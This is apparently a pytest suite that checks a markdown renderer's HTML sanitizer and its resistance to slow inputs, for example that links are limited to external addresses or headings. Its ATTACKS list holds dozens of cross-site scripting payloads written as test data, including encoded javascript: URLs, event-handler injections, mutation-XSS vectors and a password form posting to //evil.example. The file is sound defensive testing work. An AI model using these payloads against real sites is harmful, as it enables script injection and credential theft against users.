"""Hostile markdown runs nothing, loads nothing and is rendered quickly."""

import random
import re
import time
from html.parser import HTMLParser

import pytest

from foundation.text import markdown
from foundation.text.markdown import (
    ATTRIBUTES,
    MAX_BRACKETS,
    MAX_BYTES,
    MAX_HTML,
    TAGS,
    render_markdown,
)

pytestmark = pytest.mark.once

# CPU seconds. The sources take at most one; without limits the first two took fifteen.
PATIENCE = 4

ATTACKS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/png;base64,AAAA)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/v1/agents/publish)",
    "[a](../../admin/)",
    "[a](?next=x)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a][x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: vbscript:x 'title'",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror="alert(1)](https://example.org/x.png)',
    '![a](https://example.org/" onerror="alert(1))',
    '[a](https://example.org "\\" onmouseover=\\"alert(1)")',
    '[a](https://example.org/"onmouseover="alert(1))',
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=x></object><embed src=x>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password type=password></form>",
    "<input type=text>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style=position:fixed id=nav class=header>x</p>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onload=alert(1)\nx\n```',
    "```<script>\nx\n```",
    "~~~js onload=x\n</code></pre><script>alert(1)</script>\n~~~",
    "    <script>alert(1)</script>",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script> [a](javascript:x)",
    '[^"onload=x]\n\n[^"onload=x]: x',
    '# <script>alert(1)</script>\n\n## a"onload=x',
    "- [ ] <img src=x onerror=alert(1)>",
    "- [x] [a](javascript:alert(1))",
    "[![a](javascript:x)](javascript:y)",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "a\u2028<script>\u2029alert(1)</script>",
    "<a\x0bhref=x>",
    "[a](https://example.org\u202e)",
    "---\nx: <script>\n---\n<script>alert(1)</script>",
]


class Elements(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def text_of(html: str) -> str:
    return "".join(Elements(html).text.split())


@pytest.mark.parametrize("source", ATTACKS)
def test_rendered_html_runs_and_loads_nothing(source: str) -> None:
    for tag, attributes in Elements(render_markdown(source).html).elements:
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"rel", "title"}
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert not attributes.keys() & {"src", "srcset"}
        address = attributes.get("href")
        if address is not None:
            assert re.match(r"(https?://|mailto:|#)", address), address
            assert not re.search(r"[\s\"'<>]", address)


@pytest.mark.parametrize("tag", ["script", "style", "iframe", "form", "svg", "your-name"])
def test_unknown_tag_is_shown_as_it_is_written(tag: str) -> None:
    html = render_markdown(f"<{tag}>a</{tag}>\n\nb <{tag} c=d>").html

    assert f"&lt;{tag}&gt;a&lt;/{tag}&gt;" in html
    assert f"b &lt;{tag} c=d&gt;" in html


FRAGMENTS = (
    *(
        "<b>",
        "<td>",
        "<p>",
        "<p align=center>",
        "<table><tr>",
        "<table>",
        "</table>",
        "</p>",
        "</b>",
    ),
    *("</div>", "<div>", "<details>", "<li>", "<h1>", "<a href=https://x.org>", "</a>", "<svg>"),
    *("<select>", "<math>", "<template>", "<plaintext>", "<!--", "-->", "<ul>", "<ruby><rt>"),
    *("<pre>", "</pre>", "<picture>", "<sup>", "<hr>", "[x](https://x.org)", "**b**", "`c`"),
    *("> ", "- ", "word ", "\n", "\n\n"),
)


def test_cleaning_finds_nothing_to_repair() -> None:
    """The repairs of a browser could move or repeat text."""
    chance = random.Random(7)
    for _ in range(400):
        source = "".join(chance.choices(FRAGMENTS, k=12))
        env = markdown._new_env(None, "readme-")
        unsafe_html = markdown._parser().render(source, env)
        safe = render_markdown(source).html

        assert sorted(text_of(safe)) == sorted(text_of(unsafe_html)), source
        # A line break behind <pre> is no part of its text.
        assert "".join(markdown.clean_html(safe).split()) == "".join(safe.split()), source


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[a](https://example.org/x?a=1&b=2)", "https://example.org/x?a=1&b=2"),
        ("[a](HTTP://EXAMPLE.ORG)", "http://EXAMPLE.ORG"),
        ("<https://example.org>", "https://example.org"),
        ("<mail@example.org>", "mailto:mail@example.org"),
        ("[a](#readme-top)", "#readme-readme-top"),
        ("[a](docs/x.md)", None),
    ],
)
def test_links_are_external_or_to_a_heading(source: str, href: str | None) -> None:
    links = [attrs for tag, attrs in Elements(render_markdown(source).html).elements if tag == "a"]

    assert [link.get("href") for link in links] == ([href] if href else [])
    assert all(link["rel"] == "nofollow noopener ugc" for link in links)


def test_picture_is_replaced_by_its_text() -> None:
    html = render_markdown("![a cat](https://example.org/cat.png) ![b](cat.png)").html

    assert "<img" not in html
    assert '<a class="picture-note" href="https://example.org/cat.png"' in html
    assert ">image: a cat</a>" in html
    assert "image: b (cat.png)</span>" in html


def test_heading_id_does_not_collide_with_the_page() -> None:
    html = render_markdown("# Main\n# main\n# Main 1\n# \n# Ünï `code`\n# nav\n").html

    ids = re.findall(r'id="([^"]*)"', html)
    names = ["main", "main-1", "main-1-1", "", "ünï-code", "nav"]
    assert ids == [f"readme-{name}" for name in names]
    assert "<h1" not in html


def test_ids_are_unique() -> None:
    source = "".join(f"# a\n# a {n}\n# a-{n}\nx[^{n}]\n\n[^{n}]: note\n\n" for n in range(1, 30))

    ids = re.findall(r'\sid="([^"]*)"', render_markdown(source).html)

    assert len(ids) == len(set(ids)) > 100
    assert all(id.startswith("readme-") for id in ids)


def test_task_boxes_are_disabled() -> None:
    html = render_markdown("- [ ] a\n- [x] b\n  1. [X] c\n- [ ]d\n- [y] e\n- f\n\n[ ] g\n").html

    boxes = [attrs for tag, attrs in Elements(html).elements if tag == "input"]
    assert boxes == [
        {"type": "checkbox", "disabled": ""},
        {"checked": "", "type": "checkbox", "disabled": ""},
        {"checked": "", "type": "checkbox", "disabled": ""},
    ]
    assert html.count('class="contains-task-list"') == 2
    assert html.count('class="task-list-item"') == 3
    assert "<p>[ ] g</p>" in html


@pytest.mark.parametrize("source", ["é" * 1_000_000, "word " * 400_000, "🦞" * 500_000])
def test_long_source_is_cut_between_characters(source: str) -> None:
    html = render_markdown(source)

    assert html.is_cut
    assert len(html.html.encode()) <= MAX_BYTES + 20
    assert "\ufffd" not in html.html
    assert not render_markdown(source[:1000]).is_cut


def test_too_many_brackets_end_the_text() -> None:
    links = "[a](https://example.org) " * 4_000

    assert not render_markdown(links, max_bytes=len(links)).is_cut
    html = render_markdown("[x" * MAX_BRACKETS + " last [never shown")

    assert html.is_cut
    assert html.html.count("[x") == MAX_BRACKETS
    assert "last" in html.html
    assert "never" not in html.html


SLOW = {
    "headings that are alike": "# a\n",
    "tasks": "- [ ] a\n",
    "open pictures": "![",
    "open footnotes": "^[",
    "open references": "[^",
    "open references with words": "[^a_b*",
    "open pictures far apart": "![word word word ",
    "quotes in quotes": "> ",
    "cells": "|a|b|\n|-|-|\n",
    "stars": "*a _b ",
    "struck": "~~a ~",
    "code spans": "`a `` ",
    "quoted lists": "> - a\n",
    "lists in lists": "- a\n  - b\n",
    "definitions": "[a]: b\n",
    "footnotes": "[^1]: a\n\n[^1]\n",
    "setext headings": "a\n=\n",
    "fences": "```py\nx\n```\n",
    "comments that end in many dashes": "<!-- a ---->",
    "open comments": "<!--a",
    "open quotes of attributes": "<a b='\" ",
    "paragraphs in paragraphs": "<p><b><i><s><em><kbd>\n\nx\n\n",
    "rows of text": "<table><b><i>x<tr></tr>",
    "links": "https://x.org/((( a@b.c www.a.b ",
    "anchors": "<a id=b></a>\n\n# b\n",
}


@pytest.mark.parametrize("unit", SLOW.values(), ids=SLOW)
def test_hostile_source_is_rendered_quickly(unit: str) -> None:
    source = unit * (MAX_BYTES // 2 // len(unit))
    start = time.process_time()

    render_markdown(source)

    assert time.process_time() - start < PATIENCE


@pytest.mark.parametrize(
    "levels",
    [
        "".join(f"{'  ' * depth}- item{depth}\n" for depth in range(100)),
        "".join(f"{'   ' * depth}1. item{depth}\n" for depth in range(70)),
        "".join(f"{'> ' * depth}item{depth}\n\n" for depth in range(60)),
        "".join(f"{'> - ' * depth}item{depth}\n\n" for depth in range(40)),
        "* " * 3 + "- + " * 60 + "item1",
        "[^1]: a\n\n" + "".join(f"{'    ' * depth}- item{depth}\n" for depth in range(1, 40)),
    ],
)
def test_text_in_and_after_deep_levels_is_shown(levels: str) -> None:
    html = render_markdown(f"see[^1]\n\n{levels}\n\n# After\n\nLast words.\n").html

    assert "Last words." in html
    assert {word for word in re.findall(r"item\d+", levels) if word not in html} == set()


@pytest.mark.parametrize(
    "definition",
    [f"[a]: https://x.example/{'A' * 50_000}", f"[a]: https://x.example/ '{'A' * 50_000}'"],
)
def test_definition_that_many_links_use_is_not_repeated(definition: str) -> None:
    assert len(render_markdown(f"{definition}\n\n{'[a] ' * 5_000}").html) <= MAX_HTML


def test_source_with_too_much_html_is_shown_as_source(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "MAX_HTML", 1_000)

    html = render_markdown("| *a* | <b> |\n|-|-|\n" * 100).html

    assert html.startswith('<pre tabindex="0"><code>| *a* | &lt;b&gt; |')
    assert html.count("*a*") == 100
